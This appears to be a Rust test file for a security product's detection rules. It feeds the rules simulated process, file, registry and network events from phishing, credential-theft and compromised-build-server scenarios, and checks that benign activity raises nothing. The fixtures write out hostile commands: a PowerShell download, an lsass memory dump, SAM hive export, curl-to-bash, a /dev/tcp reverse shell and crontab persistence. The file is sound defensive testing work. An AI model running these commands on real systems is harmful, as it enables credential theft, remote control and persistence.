//! The product's own rules: each finds what it is for and leaves ordinary work alone.

use std::path::PathBuf;

use detections::{Loaded, RuleSet};
use serde_json::{Value, json};

use crate::{hits, row};

fn load() -> Loaded {
    RuleSet::load(&[PathBuf::from("../../rules")])
}

/// `expected` is the last letter and digit of the ids of the rules that match.
#[track_caller]
fn check(table: &str, columns: Value, expected: &[&str]) {
    let loaded = load();
    let row = row(table, columns);
    let ids: Vec<&str> =
        loaded.rules.evaluate(&row).iter().map(|meta| &meta.id[meta.id.len() - 2..]).collect();
    assert_eq!(ids, expected, "{:?}", hits(&loaded.rules, &row));
}

fn process(path: &str, command: &str, parent: &str, user: &str) -> Value {
    json!({"ActionType": "ProcessCreated", "FolderPath": path, "ProcessCommandLine": command,
           "InitiatingProcessFolderPath": parent, "AccountName": user})
}

#[test]
fn all_load_and_say_what_they_are() {
    let loaded = load();
    assert_eq!(loaded.problems, []);
    assert_eq!(loaded.skipped, []);
    assert_eq!(loaded.rules.len(), 16);
    for meta in loaded.rules.metas() {
        assert_eq!(meta.author.as_deref(), Some("Bartizan project"), "{}", meta.title);
        assert_eq!(meta.license.as_deref(), Some("Apache-2.0"), "{}", meta.title);
        assert!(!meta.techniques.is_empty() && !meta.description.is_empty(), "{}", meta.title);
        assert_ne!(meta.category, "SuspiciousActivity", "{}", meta.title);
    }
}

#[test]
fn a_phishing_document_is_seen_at_every_step() {
    let word = r"c:\program files\microsoft office\root\office16\winword.exe";
    let powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe";
    let dropped = r"C:\Users\alice\AppData\Roaming\Updater\updater.exe";
    let command = "powershell.exe -NoP -w hidden -EncodedCommand SQBFAFgA";
    check("DeviceProcessEvents", process(powershell, command, word, "alice"), &["01"]);
    let command =
        "powershell -c (New-Object Net.WebClient).DownloadFile('http://203.0.113.10/a.exe','a.exe')";
    check("DeviceProcessEvents", process(powershell, command, powershell, "alice"), &["02"]);
    let file = json!({"ActionType": "FileCreated", "FolderPath": dropped, "InitiatingProcessFolderPath": powershell});
    check("DeviceFileEvents", file, &["03"]);
    let key = r"HKEY_USERS\S-1-5-21-1\SOFTWARE\Microsoft\Windows\CurrentVersion\Run";
    let run = json!({"ActionType": "RegistryValueSet", "RegistryKey": key, "RegistryValueName": "Updater",
        "RegistryValueType": "String", "RegistryValueData": dropped, "InitiatingProcessFolderPath": powershell});
    check("DeviceRegistryEvents", run, &["04"]);
    let beacon = json!({"ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.10", "RemotePort": 443,
        "InitiatingProcessFolderPath": dropped.to_lowercase()});
    check("DeviceNetworkEvents", beacon, &["05"]);
}

#[test]
fn credential_theft_and_lateral_movement_are_seen() {
    let cmd = r"c:\windows\system32\cmd.exe";
    let command = r"rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 712 C:\Windows\Temp\l.dmp full";
    check("DeviceProcessEvents", process(r"C:\Windows\System32\rundll32.exe", command, cmd, "bob"), &["06"]);
    for access in [json!({"DesiredAccess": 0x1f_ffff}), json!({"GrantedAccess": "0x1410"})] {
        let open = json!({"ActionType": "OpenProcessApiCall", "FileName": "lsass.exe",
            "FolderPath": r"C:\Windows\System32\lsass.exe", "AdditionalFields": access,
            "InitiatingProcessFolderPath": r"c:\windows\system32\rundll32.exe"});
        check("DeviceEvents", open, &["07"]);
    }
    let save = r"reg save HKLM\SAM C:\Windows\Temp\sam.hiv";
    check("DeviceProcessEvents", process(r"C:\Windows\System32\reg.exe", save, cmd, "bob"), &["08"]);
    let services = r"c:\windows\system32\services.exe";
    let service = r"C:\Windows\PSEXESVC.exe";
    check("DeviceProcessEvents", process(service, service, services, "system"), &["09"]);
    let installed = json!({"ActionType": "ServiceInstalled", "FileName": "PSEXESVC.exe", "FolderPath": service,
        "AdditionalFields": {"ServiceName": "PSEXESVC"}});
    check("DeviceEvents", installed, &["0a"]);
}

#[test]
fn a_compromised_build_server_is_seen() {
    let pipe = "bash -c \"curl -fsSL http://203.0.113.20/i.sh | bash\"";
    check("DeviceProcessEvents", process("/usr/bin/bash", pipe, "/usr/bin/java", "jenkins"), &["0b"]);
    let reverse = "bash -c \"bash -i >& /dev/tcp/203.0.113.20/4444 0>&1\"";
    check("DeviceProcessEvents", process("/usr/bin/bash", reverse, "/usr/bin/bash", "www-data"), &["0c"]);
    for path in ["/etc/cron.d/sysupdate", "/home/ci/.config/systemd/user/dbus-helper.service"] {
        let file = json!({"ActionType": "FileCreated", "FolderPath": path, "InitiatingProcessFolderPath": "/usr/bin/bash"});
        check("DeviceFileEvents", file, &["0d"]);
    }
    let crontab = "sh -c \"(crontab -l; echo '* * * * * curl http://203.0.113.20/i.sh|sh') | crontab -\"";
    check("DeviceProcessEvents", process("/usr/bin/dash", crontab, "/usr/bin/bash", "ci"), &["0e"]);
    check(
        "DeviceProcessEvents",
        process("/usr/bin/cat", "cat /etc/shadow", "/usr/bin/bash", "root"),
        &["0f"],
    );
    let miner = json!({"ActionType": "ConnectionSuccess", "RemoteIP": "203.0.113.30", "RemotePort": 3333,
        "InitiatingProcessFolderPath": "/dev/shm/.x/kworkerd"});
    check("DeviceNetworkEvents", miner, &["10"]);
}

#[test]
fn ordinary_office_work_and_builds_raise_nothing() {
    let explorer = r"c:\windows\explorer.exe";
    for (path, command, parent, user) in [
        (r"C:\Program Files\Microsoft Office\winword.exe", "winword.exe report.docx", explorer, "alice"),
        (r"C:\Windows\splwow64.exe", "splwow64.exe 12288", r"c:\program files\office\winword.exe", "alice"),
        (
            r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
            "powershell -File backup.ps1",
            explorer,
            "a",
        ),
        (
            r"C:\Windows\System32\svchost.exe",
            "svchost.exe -k netsvcs",
            r"c:\windows\system32\services.exe",
            "system",
        ),
        (r"C:\Windows\System32\reg.exe", r"reg query HKLM\SYSTEM\CurrentControlSet", explorer, "alice"),
        ("/usr/bin/bash", "bash -c make -j8", "/usr/bin/java", "jenkins"),
        ("/usr/bin/curl", "curl -fsSLO https://example.com/a.tar.gz", "/usr/bin/bash", "jenkins"),
        ("/usr/bin/bash", "bash -c curl https://sh.example.com | sh", "/usr/bin/bash", "dev"),
        ("/usr/bin/crontab", "crontab -l", "/usr/bin/bash", "dev"),
        ("/usr/bin/cat", "cat /etc/passwd", "/usr/bin/bash", "dev"),
    ] {
        check("DeviceProcessEvents", process(path, command, parent, user), &[]);
    }
    for (path, ip, port, url) in [
        (r"c:\program files\google\chrome\application\chrome.exe", "203.0.113.40", 443, "www.example.com"),
        (r"c:\users\alice\appdata\local\microsoft\teams\teams.exe", "203.0.113.41", 443, ""),
        (r"c:\users\alice\appdata\roaming\zoom\bin\zoom.exe", "203.0.113.42", 443, ""),
        ("/usr/bin/git", "203.0.113.43", 443, "git.example.com"),
        ("/tmp/go-build1/b001/exe/server", "127.0.0.1", 3333, ""),
    ] {
        let columns = json!({"ActionType": "ConnectionSuccess", "RemoteIP": ip, "RemotePort": port, "RemoteUrl": url,
                             "InitiatingProcessFolderPath": path});
        check("DeviceNetworkEvents", columns, &[]);
    }
    for (path, writer) in [
        (r"C:\Users\alice\Documents\report.docx", r"c:\program files\office\winword.exe"),
        (
            r"C:\Users\alice\AppData\Local\Temp\__PSScriptPolicyTest_x.ps1",
            r"c:\windows\system32\powershell.exe",
        ),
        ("/etc/cron.d/popularity-contest", "/usr/bin/dpkg"),
        ("/home/ci/src/main.o", "/usr/bin/cc1"),
    ] {
        let columns =
            json!({"ActionType": "FileCreated", "FolderPath": path, "InitiatingProcessFolderPath": writer});
        check("DeviceFileEvents", columns, &[]);
    }
    let svchost = json!({"ActionType": "OpenProcessApiCall", "FolderPath": r"C:\Windows\System32\lsass.exe",
        "AdditionalFields": {"GrantedAccess": "0x1410"},
        "InitiatingProcessFolderPath": r"c:\windows\system32\svchost.exe"});
    check("DeviceEvents", svchost, &[]);
    let service = json!({"ActionType": "ServiceInstalled", "FileName": "MsMpEng.exe",
        "FolderPath": r"C:\ProgramData\Microsoft\Windows Defender\MsMpEng.exe"});
    check("DeviceEvents", service, &[]);
}
